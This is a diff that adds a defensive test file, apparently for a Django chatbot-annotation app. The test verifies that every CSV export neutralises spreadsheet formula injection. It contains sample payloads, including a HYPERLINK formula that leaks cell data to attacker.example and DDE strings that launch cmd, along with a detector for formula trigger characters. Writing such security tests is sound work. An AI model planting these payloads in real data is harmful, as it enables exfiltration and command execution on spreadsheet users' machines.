@@ -1,0 +1,150 @@
+"""Finding 4: CSV formula injection. Every CSV the app writes (pages, API, the study zip) goes
+through one writer that neutralises cells a spreadsheet would run as a formula.
+
+Payloads are planted where LLM output and imported text end up (a message, an external id, a
+chatbot's name and model, a persona key, a judge's rationale, a rater's note, a consensus
+reason, a username), then every CSV endpoint is fetched and every cell is checked.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver
+
+from annotation.consensus.services import study_compute_consensus
+from annotation.models import Assignment, AssignmentStatus, ConsensusLabel, Rating, RatingStatus
+from annotation.studies.services import study_create
+from corpus.instruments.services import builtin_instruments_load
+from judging import services as judging
+from judging.models import JudgeLabel
+from tests.conftest import client_for, make_user
+from tests.factories import ConversationFactory, PersonaFactory, TargetFactory
+from tests.judging.conftest import checklist_reply
+
+HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"click")'
+PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")
+KEY_ENV = "CSV_TEST_API_KEY"
+
+
+def dangerous_cells(text: str) -> list[str]:
+    """Return the cells of a CSV text that a spreadsheet would evaluate as a formula."""
+    return [
+        cell
+        for row in csv.reader(io.StringIO(text))
+        for cell in row
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.match(cell)
+    ]
+
+
+@pytest.fixture
+def planted(fake_llm, coordinator, clinician, monkeypatch, django_capture_on_commit_callbacks):  # type: ignore[no-untyped-def]
+    monkeypatch.setenv(KEY_ENV, "sk-test-not-real")
+    amhart, section = builtin_instruments_load()
+    rater = make_user("@evil+rater", "clinician")  # usernames may start with @
+    target = TargetFactory(name=PAYLOADS[1], model=PAYLOADS[0])
+    persona = PersonaFactory(key="-persona+cmd", name=PAYLOADS[3])
+    conversations = [
+        ConversationFactory(
+            persona=persona, target=target, external_id=PAYLOADS[2],
+            messages=[("user", PAYLOADS[0]), ("assistant", PAYLOADS[3])],
+        )
+        for _ in range(2)
+    ]
+    study = study_create(
+        name="CSV study", instrument=amhart, section=section, conversation_ids=[c.pk for c in conversations],
+        created_by=coordinator, coordinators=[coordinator], raters=[(clinician, "clinician"), (rater, "clinician")],
+    )
+    items = list(amhart.items.values_list("key", flat=True))
+    for conversation in conversations:
+        for user, label in ((clinician, "yes"), (rater, "no")):
+            assignment = Assignment.objects.create(study=study, conversation=conversation, rater=user, status=AssignmentStatus.SUBMITTED)
+            answers = {key: {"value": "no"} for key in items}
+            answers["amhart_01"] = {"value": label, "note": PAYLOADS[4]}
+            Rating.objects.create(assignment=assignment, status=RatingStatus.SUBMITTED, answers={"main": answers})
+    study_compute_consensus(study=study, actor=coordinator)
+    ConsensusLabel.objects.filter(study=study).update(reason=PAYLOADS[0])
+    fake_llm.script("csv-judge", [checklist_reply({}, default="no")])
+    judge = judging.judge_create(
+        name="csv-judge", instrument=amhart, model="openai/csv-judge", provider="csv",
+        api_base=fake_llm.base_url, api_key_env=KEY_ENV,
+    )
+    with django_capture_on_commit_callbacks(execute=True):
+        run = judging.judge_run_create(judges=[judge], conversation_ids=[c.pk for c in conversations])
+    run.refresh_from_db()
+    JudgeLabel.objects.filter(result__run=run).update(rationale=HYPERLINK)
+    return study, run
+
+
+def _csv_route_names() -> set[str]:
+    """Return the names of every URL pattern that answers CSV (its route ends in .csv or .zip)."""
+    names: set[str] = set()
+
+    def walk(patterns, namespace: str = "") -> None:  # type: ignore[no-untyped-def]
+        for p in patterns:
+            if isinstance(p, URLResolver):
+                walk(p.url_patterns, f"{namespace}{p.namespace}:" if p.namespace else namespace)
+            elif isinstance(p, URLPattern) and re.search(r"(csv|zip)", str(p.pattern)):
+                names.add(f"{namespace}{p.name}")
+
+    walk(get_resolver().url_patterns)
+    return names
+
+
+def test_every_csv_export_neutralises_formulas(planted, coordinator, researcher):
+    study, run = planted
+    urls = {
+        "corpus:conversation-export": ["/corpus/conversations/export.csv"],
+        "v1:conversation-export (API)": ["/api/v1/conversations/export/?as=csv"],
+        "judging:run-export": [f"/judging/runs/{run.pk}/export/{fmt}.csv" for fmt in ("long", "dimensions", "ensemble")],
+        "v1:judge-run-labels (API)": [f"/api/v1/judge-runs/{run.pk}/labels/?as={fmt}" for fmt in ("long", "dimensions", "ensemble")],
+        "annotation:study-progress-csv": [f"/studies/{study.pk}/progress/{t}.csv" for t in ("raters", "conversations")],
+        "annotation:study-consensus-csv": [f"/studies/{study.pk}/consensus.csv"],
+        "reports:reliability-csv": [f"/reports/studies/{study.pk}/reliability.csv"],
+        "reports:realism-csv": [f"/reports/studies/{study.pk}/realism.csv"],
+        "reports:scorecard-csv": [f"/reports/studies/{study.pk}/scorecard/{t}.csv" for t in ("by_chatbot", "by_chatbot_persona", "per_conversation")],
+        "reports:judges-csv": [f"/reports/studies/{study.pk}/judges.csv?run={run.pk}"],
+        "reports:run-scorecard-csv": [f"/reports/runs/{run.pk}/scorecard/{t}.csv" for t in ("by_chatbot", "by_chatbot_persona", "per_conversation")],
+        "reports:study-export": [f"/reports/studies/{study.pk}/export.zip"],
+    }
+    # A new CSV route must be added above, so that it is checked too.
+    assert _csv_route_names() <= {name.split(" ")[0] for name in urls}, _csv_route_names()
+
+    client = client_for(coordinator)
+    bodies: dict[str, str] = {}
+    for paths in urls.values():
+        for path in paths:
+            response = client.get(path)
+            if response.status_code == 404 and "scorecard" in path:
+                continue  # a table this instrument's scorecard does not have
+            assert response.status_code == 200, (path, response.status_code)
+            raw = b"".join(response.streaming_content) if response.streaming else response.content
+            if path.endswith(".zip"):
+                archive = zipfile.ZipFile(io.BytesIO(raw))
+                for member in archive.namelist():
+                    if member.endswith(".csv"):
+                        bodies[f"{path}!{member}"] = archive.read(member).decode()
+            else:
+                bodies[path] = raw.decode()
+    problems = {where: cells for where, text in bodies.items() if (cells := dangerous_cells(text))}
+    assert not problems, problems
+    # The payloads did reach the exports (quoted), so the check above is not vacuous.
+    everything = "\n".join(bodies.values())
+    assert "'" + HYPERLINK.replace('"', '""') in everything
+    assert "'@evil+rater" in everything
+    assert "'-2+3+cmd" in everything
+    assert any("scorecard" in where for where in bodies)
+
+
+def test_numbers_stay_numbers():
+    from core.csvstream import csv_text
+
+    text = csv_text(["a", "b", "c"], [[-0.25, "-0.25", "+3"], ["-", "=1", "@x"]])
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1] == ["-0.25", "-0.25", "+3"]
+    assert rows[2] == ["'-", "'=1", "'@x"]
